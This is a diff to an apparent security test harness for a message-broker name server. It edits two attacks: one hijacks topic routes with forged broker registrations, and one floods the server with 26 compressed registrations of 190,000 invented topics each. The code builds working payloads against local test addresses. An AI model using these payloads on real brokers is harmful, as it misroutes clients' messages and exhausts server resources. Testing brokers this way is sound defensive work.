@@ -247,7 +247,9 @@ def claims(target: Target, made: list[list[bytes]]) -> Result:
     """Have strangers' sets claim the topic of a broker of another host, and look at the route that its clients get."""
     stack = contextlib.ExitStack()
     with stack:
-        broker = stack.enter_context(contextlib.closing(ScriptedBroker(target.line(host="127.0.0.9"), VICTIM)))
+        broker = stack.enter_context(
+            contextlib.closing(ScriptedBroker(target.line(host="127.0.0.9"), VICTIM, address="10.9.9.8:10911"))
+        )
         broker.register(TOPICS)
         client = stack.enter_context(contextlib.closing(target.line(host="127.0.0.9")))
         before = len(client.request(*route_query(VICTIM)).body)
@@ -289,15 +291,13 @@ def many_topics(target: Target, made: list[bytes]) -> Result:
 
 
 def topics_of_invented_sets(_target: Target) -> list[bytes]:
-    """Return 26 compressed registrations, with 200,000 topics each and 13.7 MB in all."""
-    requests_of_sets = []
+    """Return 26 compressed registrations, with 190,000 topics each."""
+    made = []
     for number in range(26):
-        names = (f"{number:02}{topic:06}{'x' * 20}" for topic in range(200_000))
-        table = ",".join(f'"{name}":{{"perm":6,"topicName":"{name}"}}' for name in names)
-        text = f'{{"topicConfigSerializeWrapper":{{"topicConfigTable":{{{table}}}}}}}'.encode()
         fields = registration("0", f"10.6.6.{number}:10911", brokerName=f"invented-{number}", compressed="true")
-        requests_of_sets.append(frame(REGISTER_BROKER, fields, zlib.compress(text)))
-    return requests_of_sets
+        topics = [b"%02d%06d%s 8 8 6 SINGLE_TAG" % (number, topic, b"x" * 20) for topic in range(190_000)]
+        made.append(frame(REGISTER_BROKER, fields, inflated(topics, [])))
+    return made
 
 
 ATTACKS = [
@@ -374,7 +374,7 @@ ATTACKS = [
         claiming_sets,
     ),
     Attack(
-        "26 x 103 over one connection, compressed: 200,000 topics each",
+        "26 x 103 over one connection, compressed: 190,000 topics each",
         many_topics,
         topics_of_invented_sets,
     ),
